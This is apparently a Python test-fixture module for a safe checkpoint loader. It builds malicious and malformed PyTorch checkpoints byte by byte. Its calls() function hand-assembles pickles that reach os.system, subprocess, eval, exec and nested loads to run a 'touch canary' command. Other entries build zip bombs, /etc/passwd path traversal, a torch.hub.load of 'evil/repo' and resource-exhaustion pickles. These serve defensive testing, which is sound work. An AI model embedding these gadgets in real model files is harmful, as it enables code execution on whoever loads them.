"""Checkpoints that must be refused, built by hand: pickle instructions and zip archives byte by byte.

`CORPUS` maps a name to a function (path, canary) that writes the file; those that try to run something try to create
the file `canary`.
"""

from __future__ import annotations

import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

PROTO, STOP, REDUCE = b"\x80\x02", b".", b"R"
ORDERED_DICT = b"ccollections\nOrderedDict\n)R"
NAMESPACE = b"cargparse\nNamespace\n)\x81"


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def integer(value: int) -> bytes:
    if -(1 << 31) <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)
    return b"\x8a\x08" + struct.pack("<q", value)


def tuple_(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def storage(key: str = "0", count: int = 4, kind: bytes = name("torch", "FloatStorage")) -> bytes:
    return tuple_(text("storage"), kind, text(key), text("cpu"), integer(count)) + b"Q"


def tensor(store: bytes | None = None, offset: int = 0, shape: tuple = (4,), strides: tuple = (1,)) -> bytes:
    sizes = tuple_(*map(integer, shape)), tuple_(*map(integer, strides))
    args = tuple_(storage() if store is None else store, integer(offset), *sizes, b"\x89", ORDERED_DICT)
    return name("torch._utils", "_rebuild_tensor_v2") + args + REDUCE


def entry(value: bytes) -> bytes:
    """The pickle of {"w": value}."""
    return PROTO + b"}" + text("w") + value + b"s" + STOP


def archive(path: Path, pickled: bytes, top: str = "archive/", method: int = zipfile.ZIP_STORED, **members: bytes) -> None:
    content = {"data.pkl": pickled, "byteorder": b"little", "data/0": np.arange(4, dtype="<f4").tobytes()}
    content |= {key.replace("__", "/"): value for key, value in members.items()} | {"version": b"3\n"}
    with zipfile.ZipFile(path, "w", method) as file:
        for member, data in content.items():
            file.writestr(top + member, data)


def shell(canary: Path) -> str:
    return f"touch {canary}"


def calls(canary: Path) -> dict[str, bytes]:
    """Pickles that create `canary` when Python's own unpickler loads them."""
    command, code = text(shell(canary)), text(f"open({str(canary)!r}, 'w').close()")
    system = name("posix", "system")
    inner = PROTO + system + tuple_(command) + REDUCE + STOP
    path_system = text("os") + text("path.os.system") + b"\x93"
    return {
        "os_system": entry(system + tuple_(command) + REDUCE),
        "subprocess": entry(name("subprocess", "getoutput") + tuple_(command) + REDUCE),
        "builtins_eval": entry(name("builtins", "eval") + tuple_(code) + REDUCE),
        "builtins_exec": entry(name("builtins", "exec") + tuple_(code) + REDUCE),
        "getattr_chain": entry(
            name("builtins", "getattr")
            + tuple_(name("builtins", "__import__") + tuple_(text("os")) + REDUCE, text("system"))
            + REDUCE + tuple_(command) + REDUCE
        ),
        "stack_global_path": b"\x80\x04" + entry(path_system + tuple_(command) + REDUCE)[2:],
        "nested_pickle": entry(name("_pickle", "loads") + tuple_(b"C" + bytes([len(inner)]) + inner) + REDUCE),
        "inst": entry(b"(" + command + b"iposix\nsystem\n"),
        "obj": entry(b"(" + system + command + b"o"),
        "newobj_partial": entry(
            name("functools", "partial") + tuple_(system, command) + b"\x81" + tuple_() + REDUCE
        ),
        "attribute_of_allowed": b"\x80\x04" + entry(
            text("argparse") + text("_os.system") + b"\x93" + tuple_(command) + REDUCE
        )[2:],
        "before_the_dict": PROTO + system + tuple_(command) + REDUCE + b"0" + entry(b"N")[2:],
    }  # fmt: skip


def _patch(path: Path, old: bytes, new: bytes) -> None:
    data = path.read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new))


def _zip_bomb(path: Path, _: Path) -> None:
    zeros = bytes(32 << 20)
    archive(path, entry(tensor(storage(count=8 << 20), shape=(8 << 20,))), method=zipfile.ZIP_DEFLATED, data__0=zeros)


def _compressed_pickle(path: Path, _: Path) -> None:
    archive(path, PROTO + b"]" * (32 << 20), method=zipfile.ZIP_DEFLATED)


def _truncated(path: Path, _: Path) -> None:
    archive(path, entry(tensor()))
    path.write_bytes(path.read_bytes()[:-60])


def _cut_in_the_middle(path: Path, _: Path) -> None:
    """The directory is whole, and the file lacks bytes before it."""
    archive(path, entry(tensor()), data__0=bytes(4096))
    data = path.read_bytes()
    path.write_bytes(data[:400] + data[2400:])


def _overlap(path: Path, _: Path) -> None:
    """Two entries of the directory share one member."""
    archive(path, entry(tensor()), data__1=np.arange(4, dtype="<f4").tobytes())
    data = path.read_bytes()
    first = data.index(b"archive/data/0") - 30
    at = data.rindex(b"archive/data/1") - 46
    path.write_bytes(data[: at + 42] + struct.pack("<I", first) + data[at + 46 :])


def _lying_directory(path: Path, _: Path) -> None:
    """A directory of 40 MB, all of it entries without a name."""
    row = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
    rows = row * ((40 << 20) // len(row))
    path.write_bytes(b"PK\x03\x04" + rows + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, len(rows), 4, 0))


def _encrypted(path: Path, _: Path) -> None:
    archive(path, entry(tensor()))
    data = bytearray(path.read_bytes())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(bytes(data))


def _claims_more_than_file(path: Path, _: Path) -> None:
    archive(path, entry(tensor(storage(count=1 << 28), shape=(1 << 28,))))
    data = bytearray(path.read_bytes())
    at = data.rindex(b"archive/data/0") - 46
    data[at + 20 : at + 28] = struct.pack("<II", 1 << 30, 1 << 30)
    path.write_bytes(bytes(data))


def _plain(pickled: bytes, **members: bytes) -> Callable[[Path, Path], None]:
    return lambda path, _: archive(path, pickled, **members)


def _deep_key() -> bytes:
    return PROTO + b"})" + b"\x85" * 50_000 + b"Ns" + STOP


CORPUS: dict[str, Callable[[Path, Path], None]] = {
    **{kind: lambda path, canary, kind=kind: archive(path, calls(canary)[kind]) for kind in calls(Path("x"))},
    "extension_registry": _plain(entry(b"\x82\x01")),
    "persistent_id_text": _plain(entry(b"P0\n")),
    "persistent_id_dict": _plain(entry(b"}Q")),
    "persistent_id_of_a_function": _plain(entry(tensor(storage(kind=name("torch._utils", "_rebuild_tensor_v2"))))),
    "persistent_id_of_a_call": _plain(entry(storage(kind=name("posix", "system")))),
    "storage_key_traversal": _plain(entry(tensor(storage(key="../../../../etc/passwd")))),
    "storage_key_absolute": _plain(entry(tensor(storage(key="/etc/passwd")))),
    "member_traversal": lambda path, _: archive(path, entry(tensor()), top="../archive/"),
    "member_absolute": lambda path, _: archive(path, entry(tensor()), top="/archive/"),
    "zip_bomb": _zip_bomb,
    "compressed_pickle": _compressed_pickle,
    "truncated": _truncated,
    "cut_in_the_middle": _cut_in_the_middle,
    "overlapping_members": _overlap,
    "lying_directory": _lying_directory,
    "encrypted": _encrypted,
    "claims_more_than_file": _claims_more_than_file,
    "storage_larger_than_member": _plain(entry(tensor(storage(count=5)))),
    "storage_smaller_than_member": _plain(entry(tensor(storage(count=3), shape=(3,)))),
    "storage_missing": _plain(entry(tensor(storage(key="7")))),
    "storage_count_negative": _plain(entry(tensor(storage(count=-4)))),
    "storage_count_enormous": _plain(entry(tensor(storage(count=1 << 62)))),
    "offset_outside": _plain(entry(tensor(offset=1))),
    "offset_negative": _plain(entry(tensor(offset=-1))),
    "stride_outside": _plain(entry(tensor(shape=(2, 2), strides=(3, 1)))),
    "stride_negative": _plain(entry(tensor(offset=3, strides=(-1,)))),
    "shape_negative": _plain(entry(tensor(shape=(-1, -4), strides=(1, 1)))),
    "shape_enormous": _plain(entry(tensor(shape=(1 << 40,)))),
    "shape_enormous_of_one_element": _plain(entry(tensor(shape=(1 << 40,), strides=(0,)))),
    "shape_empty_enormous": _plain(entry(tensor(shape=(0, 1 << 47, 1 << 47), strides=(1, 1, 1)))),
    "shape_of_many_axes": _plain(entry(tensor(shape=(1,) * 40, strides=(1,) * 40))),
    "shape_of_text": _plain(entry(tensor().replace(tuple_(integer(4)), tuple_(text("4")), 1))),
    "axes_disagree": _plain(entry(tensor(shape=(2, 2), strides=(1,)))),
    "big_endian": _plain(entry(tensor()), byteorder=b"big"),
    "namespace_class": _plain(entry(NAMESPACE + b"}" + text("__class__") + text("x") + b"sb")),
    "namespace_setstate": _plain(entry(NAMESPACE + b"}" + text("__setstate__") + name("torch", "Size") + b"sb")),
    "namespace_slots_state": _plain(entry(NAMESPACE + b"N}" + text("x") + b"Ns\x86b")),
    "state_of_a_function": _plain(entry(name("torch", "Size") + b"}" + text("build") + b"Nsb")),
    "state_of_a_tensor": _plain(entry(tensor() + b"}" + text("data") + b"Nsb")),
    "call_of_text": _plain(entry(text("eval") + b")R")),
    "call_of_a_storage_type": _plain(entry(name("torch", "FloatStorage") + b")R")),
    "ordered_dict_with_arguments": _plain(entry(name("collections", "OrderedDict") + tuple_(b"]") + REDUCE)),
    "unknown_global": _plain(entry(name("torch.hub", "load") + tuple_(text("evil/repo"), text("model")) + REDUCE)),
    "numpy_global": _plain(entry(name("numpy.core.multiarray", "_reconstruct") + b")R")),
    "many_instructions": _plain(PROTO + b"(" + b"]" * 600_000 + b"t" + STOP),
    "bytes_of_a_terabyte": _plain(entry(b"\x8e" + struct.pack("<Q", 1 << 40))),
    "text_of_four_gigabytes": _plain(entry(b"X\xff\xff\xff\xff")),
    "integer_of_two_gigabytes": _plain(entry(b"\x8b\xff\xff\xff\x7f")),
    "integer_of_many_digits": _plain(entry(tensor().replace(integer(0), b"\x8a\xff" + b"\x7f" * 255, 1))),
    "deep_tuple_as_key": _plain(_deep_key()),
    "pickle_after_pickle": _plain(entry(b"N") + entry(b"N")),
    "pickle_without_end": _plain(entry(b"N")[:-1]),
    "stack_underflow": _plain(PROTO + b"R."),
    "memo_unknown": _plain(entry(b"h\x07")),
    "not_a_dictionary": _plain(PROTO + tensor() + STOP),
    "no_pickle": lambda path, _: zipfile.ZipFile(path, "w").writestr("archive/version", b"3\n"),
    "empty_file": lambda path, _: path.write_bytes(b"") and None,
    "not_a_zip": lambda path, _: path.write_bytes(b"hello" * 100) and None,
    "bare_pickle": lambda path, canary: path.write_bytes(calls(canary)["os_system"]) and None,
    "old_torch_format": lambda path, _: path.write_bytes(
        b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    ) and None,
}  # fmt: skip
